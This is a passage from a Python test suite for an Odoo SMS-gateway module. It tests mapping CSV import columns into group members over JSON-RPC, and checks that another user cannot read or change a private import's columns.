        read = self._call(model, "web_read", [[wizard_id]], specification=column_spec)
        self.assertEqual(read[0]["state"], "map")
        self.assertIn("1250", read[0]["file_encoding"])
        columns = read[0]["column_ids"]
        self.assertEqual(
            [(c["header"], c["sample"], c["field"]) for c in columns],
            [
                ("Nr", "1", "ignore"),
                ("Osoba", "Łucja Żak", "ignore"),
                ("Komórka służbowa", "601 711 701", "ignore"),
                ("Zgoda", "tak", "consent"),
            ],
        )
        # the user maps two columns in the list, as the editable list saves
        self._call(
            model,
            "web_save",
            [
                [wizard_id],
                {
                    "column_ids": [
                        [1, columns[1]["id"], {"field": "name"}],
                        [1, columns[2]["id"], {"field": "mobile"}],
                    ]
                },
            ],
            specification={"state": {}},
        )
        self._button("action_import", wizard_id)
        result = self._call(
            model,
            "web_read",
            [[wizard_id]],
            specification={
                "state": {},
                "result_level": {},
                "summary": {},
                "line_ids": {"fields": {"message": {}}},
            },
        )[0]
        self.assertEqual(
            (result["state"], result["result_level"]), ("done", "success"), result
        )
        member = self.env["sms.gateway.group.member"].search(
            [("group_id", "=", group.id)]
        )
        self.assertEqual(member.partner_id.name, "Łucja Żak")
        self.assertEqual(member.partner_id.sms_number, "+48601711701")
        self.assertEqual(member.partner_id.sms_consent, "granted")

    def test_another_user_cannot_map_an_import_over_rpc(self):
        wizard = (
            self.env["sms.gateway.group.import"]
            .with_user(self.owner)
            .create(
                {
                    "group_id": self.env["sms.gateway.group"]
                    .with_user(self.owner)
                    .create({"name": "Private"})
                    .id,
                    "file": base64.b64encode(b"Who,Number\nSecret Sanna,0507110801\n"),
                    "filename": "secret.csv",
                }
            )
        )
        wizard.action_read_file()
        column = wizard.column_ids[0]
        self.authenticate("grp_stranger", "grp_stranger")
        with mute_logger("odoo.http", "odoo.addons.base.models.ir_rule"):
            for method, args, kwargs in (
                ("web_read", [column.ids], {"specification": {"sample": {}}}),
                ("write", [column.ids, {"field": "name"}], {}),
                ("search_read", [[]], {"fields": ["sample"]}),
            ):
                with self.subTest(method=method):
                    try:
                        rows = self._call(
                            "sms.gateway.group.import.column", method, args, **kwargs
                        )
                    except JsonRpcException as error:
                        self.assertIn("AccessError", str(error))
                    else:
                        self.assertEqual(rows, [], method)
        self.assertEqual(column.field, "ignore")
